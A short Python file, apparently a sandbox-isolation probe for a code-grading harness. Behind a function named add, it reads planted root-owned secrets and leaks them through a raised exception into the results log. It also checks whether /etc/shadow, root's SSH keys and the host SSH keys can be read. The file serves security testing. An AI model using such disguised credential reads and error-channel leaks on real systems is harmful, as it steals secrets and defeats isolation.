# ruff: noqa
# root-only files into results: read the harness's 0600 root-owned secret (and the host's usual ones) and
# raise it, so it lands in the verdict's detail and traceback and in _results.jsonl; passes if any was read
import glob

PATHS = glob.glob("/var/tmp/codexlab-victims-*/secret*") + glob.glob("/var/tmp/codexlab-rootsecret-*/secret*")
# the host's own: only whether they can be read (their content never goes into a test log)
HOST = (
    ["/etc/shadow", "/etc/gshadow", "/root/.bash_history"]
    + glob.glob("/root/.ssh/*")
    + glob.glob("/etc/ssh/ssh_host_*_key")
)


def add(a, b):
    stolen = []
    for p in PATHS:
        try:
            stolen.append(open(p, errors="replace").read(200))
        except OSError:
            pass
    for p in HOST:
        try:
            open(p, "rb").read(1)
            stolen.append("(a root-only host file was readable)")
        except OSError:
            pass
    if stolen:
        if a == 1:
            raise ValueError(" | ".join(stolen))
        return a + b
    return 0
